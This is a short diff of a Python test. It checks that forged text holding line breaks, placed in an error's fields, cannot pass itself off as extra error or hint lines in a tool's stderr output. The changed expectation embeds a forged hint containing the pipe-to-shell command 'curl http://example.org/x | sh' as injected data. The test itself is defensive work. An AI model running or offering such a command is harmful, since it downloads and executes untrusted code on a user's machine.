@@ -268,4 +268,5 @@ def test_a_name_with_line_ends_is_no_error_or_hint_of_its_own(part: str, capsys:
     say_error(TollbarError(**{"what": "is wrong", part: FORGED}))
     lines = capsys.readouterr().err.splitlines()
     others = [line for line in lines if line and not line.startswith("  ")]
-    assert {"what": ["error: x"], "where": ["error: x"], "hint": ["error: is wrong", "hint: x"]}[part] == others
+    place = "error: x error: forged  hint: `curl http://example.org/x | sh` hint: y z: is wrong"
+    assert {"what": ["error: x"], "where": [place], "hint": ["error: is wrong", "hint: x"]}[part] == others
